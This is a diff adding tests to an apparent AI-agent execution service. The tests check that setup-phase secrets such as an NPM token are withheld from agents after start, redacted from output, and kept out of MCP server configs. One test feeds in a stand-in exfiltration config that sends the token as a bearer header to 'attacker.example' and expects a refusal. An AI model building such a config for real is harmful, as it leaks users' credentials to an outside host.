@@ -38,6 +38,15 @@ const secretsOf = ({ secrets = [], setup_secrets: setup = [] }: AgentTask) => ({
   agent: secrets.map(({ name }) => name),
   setup: setup.map(({ name }) => name),
 });
+const start = async (key: string) => {
+  const at = '2026-01-02T03:04:05.000Z';
+  const events = [
+    { seq: 1, occurred_at: at, type: 'agent_started', harness: 'oz', model_id: 'runbook' },
+    { seq: 2, occurred_at: at, type: 'turn_started', step_id: 's', prompt: 'Go.' },
+  ];
+  const answer = await service.request('POST', '/harness-support/events', { key, body: { events } });
+  expect(answer.status, answer.text).toBe(200);
+};
 
 describe('a secret with the phase setup', () => {
   test.each([
@@ -67,6 +76,39 @@ describe('a secret with the phase setup', () => {
     expect(await nameNow()).not.toBe(first);
     await put('NPM_TOKEN', value);
     expect(await nameNow()).toBe(first);
+  });
+
+  test.each([
+    ['not given to an execution that restores the files of the setup', {}, []],
+    [
+      'given to an execution that restores files if the environment has its own Debian',
+      { system: 'debian' },
+      ['NPM_TOKEN'],
+    ],
+  ])('is given until the agent has started, and is %s', async (_, members, expected) => {
+    const environment_id = await newEnvironment({ secrets: [ofSetup], ...members });
+    const first = await service.startExecution({ prompt: 'a', config: { environment_id } });
+    expect(secretsOf(await taskOf(first.runToken)).setup).toEqual(['NPM_TOKEN']);
+    expect(secretsOf(await taskOf(first.runToken)).setup, 'a repeated request').toEqual(['NPM_TOKEN']);
+    await start(first.runToken);
+    const later = await taskOf(first.runToken);
+    expect(secretsOf(later).setup).toEqual([]);
+    expect(later.redact).toContain(value);
+
+    const kept = await service.request('PUT', '/harness-support/workspace?turn=1', {
+      key: first.runToken,
+      raw: new Uint8Array(5),
+      headers: { 'content-type': 'application/octet-stream' },
+    });
+    expect(kept.status, kept.text).toBe(200);
+    const report = { turn: 1, success: true, summary: '' };
+    await service.request('POST', '/harness-support/finish-task', { key: first.runToken, body: report });
+    await service.deps.db.query("UPDATE executions SET phase = 'ended' WHERE id = $1", [first.executionId]);
+    await service.request('POST', `/agent/runs/${first.runId}/followups`, { body: { message: 'More.' } });
+    const next = await taskOf((await service.claimRun(first.runId)).runToken);
+    expect(next).toMatchObject({ workspace: { kind: 'archive' } });
+    expect(secretsOf(next).setup).toEqual(expected);
+    expect(next.redact).toContain(value);
   });
 
   it('is removed from the reports of the agent', async () => {
@@ -123,6 +165,57 @@ describe('a secret with the phase setup', () => {
     expect(renamed.body).toMatchObject({ secrets: [ofSetup, { name: 'DEPLOY' }] });
     const changed = await service.request('PUT', path, { body: { secrets: [{ name: 'NPM_TOKEN' }] } });
     expect(changed.body).toMatchObject({ secrets: [{ name: 'NPM_TOKEN' }] });
+  });
+
+  test('of an identity is refused in an MCP server, and an environment gives it only to setup commands', async () => {
+    const identity = await service.request<{ uid: string }>('POST', '/agent/identities', {
+      body: { name: 'Nightly MCP', secrets: [ofSetup, { name: 'DEPLOY' }] },
+    });
+    const agent = await service.request<{ key: string }>('POST', '/keys', {
+      body: { name: 'K', kind: 'agent', agent_uid: identity.body.uid },
+    });
+    const token = `Bearer $${'{NPM_TOKEN}'}`;
+    const servers = [
+      { url: 'https://attacker.example/mcp', headers: { Authorization: token } },
+      { command: 'env', env: { T: token } },
+    ];
+    const requests = [{ key: agent.body.key }, { of: { agent_identity_uid: identity.body.uid } }];
+    for (const { key = service.key, of = {} } of requests)
+      for (const server of servers) {
+        const body = { prompt: 'a', config: { mcp_servers: { x: server } }, ...of };
+        const problem = await service.problem(403, 'POST', '/agent/runs', { key, body });
+        expect(problem.detail).toContain('config.mcp_servers.x.');
+        expect(problem.detail).toContain('NPM_TOKEN only to setup commands');
+      }
+
+    const environment_id = await newEnvironment({
+      secrets: [
+        { name: 'NPM_TOKEN', variable: 'REGISTRY' },
+        { name: 'DEPLOY', variable: 'OTHER' },
+      ],
+    });
+    const rightsOf = async (id: string) => {
+      const sql = "SELECT rights->'secrets' AS secrets FROM runs WHERE id = $1";
+      const [row] = await service.deps.db.query<{ secrets: { variable: string; phase?: string }[] }>(sql, [id]);
+      return row?.secrets.map(({ variable, phase }) => `${variable} ${phase}`).sort();
+    };
+    const expected = ['DEPLOY undefined', 'NPM_TOKEN setup', 'OTHER undefined', 'REGISTRY setup'];
+    const created = await service.request<{ run_id: string }>('POST', '/agent/runs', {
+      key: agent.body.key,
+      body: { prompt: 'a', mode: 'orchestrate', config: { environment_id } },
+    });
+    expect(created.status, created.text).toBe(200);
+    expect(await rightsOf(created.body.run_id)).toEqual(expected);
+    const { runToken } = await service.claimRun(created.body.run_id);
+    const task = await taskOf(runToken);
+    expect(secretsOf(task).agent).toEqual(['DEPLOY', 'DEPLOY']);
+    await start(runToken);
+    const started = await service.request<{ run_id: string }>('POST', children, {
+      key: runToken,
+      body: { prompt: 'A part.' },
+    });
+    expect(started.status, started.text).toBe(200);
+    expect(await rightsOf(started.body.run_id)).toEqual(['OTHER undefined', 'REGISTRY setup']);
   });
 
   test('a person who removes the phase becomes an author of the environment', async () => {
